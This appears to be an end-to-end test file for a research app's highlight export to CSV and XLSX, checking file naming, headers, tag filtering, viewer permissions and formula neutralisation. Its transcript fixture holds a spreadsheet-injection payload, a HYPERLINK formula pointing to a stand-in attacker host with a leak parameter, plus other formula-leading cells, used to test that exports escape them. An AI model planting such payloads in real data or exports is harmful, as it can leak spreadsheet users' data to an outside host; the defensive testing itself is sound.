import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { DataSource } from 'typeorm';
import { TestApp, type TestUser, type TranscriptView } from '../../../test/test-app';
import { Role } from '../../common/access/roles';

/**
 * exportHighlights end to end on the real database: the job, the file, and the file read back
 * as a spreadsheet program would read it.
 */

const TRANSCRIPT = `WEBVTT

00:00:01.000 --> 00:01:05.000
Interviewer: How did the onboarding go?

00:01:05.000 --> 00:01:10.500
Zoë Müller: Ça m’a pris trois semaines, à peu près.

00:01:10.500 --> 00:01:11.000
Interviewer: Go on.

00:01:11.000 --> 00:01:20.000
Zoë Müller: =HYPERLINK("http://evil.example/?leak=1","Click me")

00:01:20.000 --> 00:01:21.000
Interviewer: And then?

00:01:21.000 --> 00:01:30.000
Zoë Müller: +1+2 then -2+3 and @SUM(A1:A2) too
`;

interface ExportView {
  id: string;
  status: string;
  progress: number;
  format: string;
  filename: string;
  downloadUrl: string | null;
  error: string | null;
}
const EXPORT_FIELDS = 'id status progress format filename downloadUrl error';

describe('exportHighlights', () => {
  let t: TestApp;
  let owner: TestUser;
  let projectId: string;
  let workspaceId: string;
  let transcript: TranscriptView;
  let painTag: string;

  beforeAll(async () => {
    t = await TestApp.start();
    ({ user: owner, projectId, workspaceId } = await t.newProject());
    await t.ok(
      `mutation($i: UpdateProjectInput!) { updateProject(input: $i) { id } }`,
      { i: { id: projectId, name: 'Étude café' } },
      owner.token,
    );
    transcript = await t.importText(projectId, owner.token, 'call.vtt', TRANSCRIPT);
    expect(transcript.status).toBe('READY');
    const zoe = transcript.participants.find((p) => p.label.startsWith('Zo'))!;
    await t.ok(
      `mutation($i: UpdateParticipantInput!) { updateParticipant(input: $i) { id } }`,
      {
        i: {
          id: zoe.id,
          attributes: [
            { key: 'segment', value: 'SMB' },
            { key: 'company', value: 'Société Générale' },
          ],
        },
      },
      owner.token,
    );
    painTag = await tag('Douleur');
    const onboarding = await tag('Onboarding');
    await highlightTurn('Ça', [painTag, onboarding], 'Long délai');
    await highlightTurn('=HYPERLINK', [onboarding], null);
    const third = await highlightTurn('+1+2', [], null);
    // Text that arrives by other ways (an import, an old client): a note starting with a tab or CR.
    await t.app
      .get(DataSource)
      .query(`UPDATE highlight SET note = $2 WHERE id = $1`, [third, '\t=1+2\r=3+4']);
  }, 120_000);
  afterAll(() => t.close());

  async function tag(name: string): Promise<string> {
    const res = await t.ok<{ createTag: { id: string } }>(
      `mutation($i: CreateTagInput!) { createTag(input: $i) { id } }`,
      { i: { projectId, name } },
      owner.token,
    );
    return res.createTag.id;
  }

  async function highlightTurn(startsWith: string, tagIds: string[], note: string | null) {
    const seg = transcript.segments.find((s) => s.text.startsWith(startsWith));
    if (!seg)
      throw new Error(`no turn starts with ${startsWith}: ${JSON.stringify(transcript.segments)}`);
    const res = await t.ok<{ createHighlight: { id: string } }>(
      `mutation($i: CreateHighlightInput!) { createHighlight(input: $i) { id } }`,
      {
        i: {
          transcriptId: transcript.id,
          start: { segmentId: seg.id, offset: 0 },
          end: { segmentId: seg.id, offset: seg.text.length },
          tagIds,
          note,
        },
      },
      owner.token,
    );
    return res.createHighlight.id;
  }

  async function requestExport(
    user: TestUser,
    format: string,
    filter?: Record<string, unknown>,
  ): Promise<ExportView> {
    const res = await t.ok<{ exportHighlights: ExportView }>(
      `mutation($i: ExportHighlightsInput!) { exportHighlights(input: $i) { ${EXPORT_FIELDS} } }`,
      { i: { projectId, format, ...(filter ? { filter } : {}) } },
      user.token,
    );
    return res.exportHighlights;
  }

  async function finished(id: string, user: TestUser): Promise<ExportView> {
    for (let i = 0; i < 400; i++) {
      await t.jobs.idle();
      const res = await t.ok<{ export: ExportView }>(
        `query($id: ID!) { export(id: $id) { ${EXPORT_FIELDS} } }`,
        { id },
        user.token,
      );
      if (res.export.status === 'READY' || res.export.status === 'FAILED') return res.export;
      await new Promise((r) => setTimeout(r, 50));
    }
    throw new Error(`export ${id} never finished`);
  }

  /** The signed link, fetched from the test server without any token. */
  function fetchLink(url: string): Promise<Response> {
    const u = new URL(url);
    return fetch(`${t.baseUrl}${u.pathname}${u.search}`);
  }

  async function bearerDownload(id: string, user?: TestUser): Promise<Response> {
    return fetch(`${t.baseUrl}/api/exports/${id}/download`, {
      headers: user ? { authorization: `Bearer ${user.token}` } : {},
    });
  }

  function csvRows(bytes: Buffer): Record<string, string>[] {
    return parse<Record<string, string>>(bytes.toString('utf8'), { bom: true, columns: true });
  }

  it('writes a CSV a spreadsheet reads right, downloadable through its signed link', async () => {
    const queued = await requestExport(owner, 'CSV');
    expect(queued).toMatchObject({ status: 'QUEUED', format: 'CSV', downloadUrl: null });
    expect(queued.filename).toBe('Étude café – highlights.csv');
    const ready = await finished(queued.id, owner);
    expect(ready).toMatchObject({ status: 'READY', progress: 100, error: null });
    expect(ready.downloadUrl).toMatch(/\/api\/exports\/.+\/download\?expires=\d+&sig=/);

    const res = await fetchLink(ready.downloadUrl!);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const disposition = res.headers.get('content-disposition')!;
    expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("filename*=UTF-8''")[1]!)).toBe(
      'Étude café – highlights.csv',
    );
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const rows = csvRows(bytes);
    expect(rows).toHaveLength(3);
    const delay = rows.find((r) => r['Quote']!.startsWith('Ça'))!;
    expect(delay).toMatchObject({
      Quote: 'Ça m’a pris trois semaines, à peu près.',
      Tags: 'Douleur; Onboarding',
      Note: 'Long délai',
      Participant: 'Zoë Müller',
      'Participant company': 'Société Générale',
      'Participant segment': 'SMB',
      Transcript: transcript.title,
      Start: '00:01:05',
      End: '00:01:10',
      Author: 'Ada Researcher',
    });
    expect(new Date(delay['Created']!).toISOString()).toBe(delay['Created']);
    expect(delay['Link']).toMatch(
      new RegExp(
        `/t/${transcript.id}\\?segment=${transcript.segments.find((x) => x.text.startsWith('Ça'))!.id}$`,
      ),
    );
  });

  it('neutralises formulas in the CSV: =, +, -, @, tab and CR start with a quote', async () => {
    const ready = await finished((await requestExport(owner, 'CSV')).id, owner);
    const rows = csvRows(Buffer.from(await (await fetchLink(ready.downloadUrl!)).arrayBuffer()));
    const quotes = rows.map((r) => r['Quote']);
    expect(quotes).toContain(`'=HYPERLINK("http://evil.example/?leak=1","Click me")`);
    expect(quotes).toContain(`'+1+2 then -2+3 and @SUM(A1:A2) too`);
    expect(rows.map((r) => r['Note'])).toContain(`'\t=1+2\r=3+4`);
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes an XLSX that reads back with the same cells, formulas neutralised', async () => {
    const queued = await requestExport(owner, 'XLSX');
    expect(queued.filename).toBe('Étude café – highlights.xlsx');
    const ready = await finished(queued.id, owner);
    expect(ready.status).toBe('READY');
    const res = await bearerDownload(ready.id, owner);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer());
    const sheet = workbook.getWorksheet('Highlights')!;
    const values = (n: number) =>
      (sheet.getRow(n).values as unknown[]).slice(1).map((v) => (v === undefined ? '' : v));
    const header = values(1) as string[];
    expect(header.slice(0, 6)).toEqual([
      'Quote',
      'Tags',
      'Note',
      'Participant',
      'Participant company',
      'Participant segment',
    ]);
    const rows = [2, 3, 4].map((n) =>
      Object.fromEntries(header.map((h, i) => [h, values(n)[i]])),
    ) as Record<string, string>[];
    const delay = rows.find((r) => r['Quote']!.startsWith('Ça'))!;
    expect(delay).toMatchObject({
      Tags: 'Douleur; Onboarding',
      Participant: 'Zoë Müller',
      'Participant company': 'Société Générale',
      Start: '00:01:05',
    });
    expect(rows.map((r) => r['Quote'])).toContain(
      `'=HYPERLINK("http://evil.example/?leak=1","Click me")`,
    );
    // A cell's line breaks are LF in a workbook.
    expect(rows.map((r) => r['Note'])).toContain(`'\t=1+2\n=3+4`);
    for (const row of rows)
      for (const cell of Object.values(row)) expect(String(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // Text cells, never formulas.
    sheet.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).toBe(ExcelJS.ValueType.String)),
    );
  });

  it('exports only what the tag view filter matches', async () => {
    const ready = await finished(
      (await requestExport(owner, 'CSV', { projectId, tagIds: [painTag] })).id,
      owner,
    );
    const rows = csvRows(Buffer.from(await (await fetchLink(ready.downloadUrl!)).arrayBuffer()));
    expect(rows.map((r) => r['Quote'])).toEqual(['Ça m’a pris trois semaines, à peu près.']);
  });

  it('refuses a filter of another project and a format highlights do not come in', async () => {
    const other = await t.newProject(owner);
    const wrongFilter = await t.gql(
      `mutation($i: ExportHighlightsInput!) { exportHighlights(input: $i) { id } }`,
      { i: { projectId, format: 'CSV', filter: { projectId: other.projectId } } },
      owner.token,
    );
    expect(wrongFilter.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const pdf = await t.gql(
      `mutation($i: ExportHighlightsInput!) { exportHighlights(input: $i) { id } }`,
      { i: { projectId, format: 'PDF' } },
      owner.token,
    );
    expect(pdf.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(pdf.errors?.[0]?.message).toMatch(/CSV, XLSX/);
    const count = await t.app
      .get(DataSource)
      .query<
        { n: number }[]
      >(`SELECT count(*)::int AS n FROM export WHERE project_id = $1 AND format = 'PDF'`, [projectId]);
    expect(count[0]!.n).toBe(0);
  });

  it('lets a viewer export; nobody else sees or downloads the export', async () => {
    const viewer = await t.join(owner, workspaceId, Role.VIEWER, 'Vera Viewer');
    const editor = await t.join(owner, workspaceId, Role.EDITOR, 'Ed Editor');
    const outsider = await t.signUp('Otto Outsider');
    const exp = await finished((await requestExport(viewer, 'CSV')).id, viewer);
    expect(exp.status).toBe('READY');
    expect((await bearerDownload(exp.id, viewer)).status).toBe(200);

    for (const other of [editor, outsider, owner]) {
      const seen = await t.gql(
        `query($id: ID!) { export(id: $id) { id } }`,
        { id: exp.id },
        other.token,
      );
      expect(seen.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
      const retry = await t.gql(
        `mutation($id: ID!) { retryExport(id: $id) { id } }`,
        { id: exp.id },
        other.token,
      );
      expect(retry.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
      expect((await bearerDownload(exp.id, other)).status).toBe(404);
    }
    const outsiders = await t.gql(
      `mutation($i: ExportHighlightsInput!) { exportHighlights(input: $i) { id } }`,
      { i: { projectId, format: 'CSV' } },
      outsider.token,
    );
    expect(outsiders.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
    expect((await bearerDownload(exp.id)).status).toBe(401);

    const mine = await t.ok<{ exports: { totalCount: number; edges: { node: { id: string } }[] } }>(
      `query($p: ID!) { exports(projectId: $p) { totalCount edges { node { id } } } }`,
      { p: projectId },
      viewer.token,
    );
    expect(mine.exports.edges.map((e) => e.node.id)).toEqual([exp.id]);
    const editors = await t.ok<{ exports: { totalCount: number } }>(
      `query($p: ID!) { exports(projectId: $p) { totalCount } }`,
      { p: projectId },
      editor.token,
    );
    expect(editors.exports.totalCount).toBe(0);
  });
});
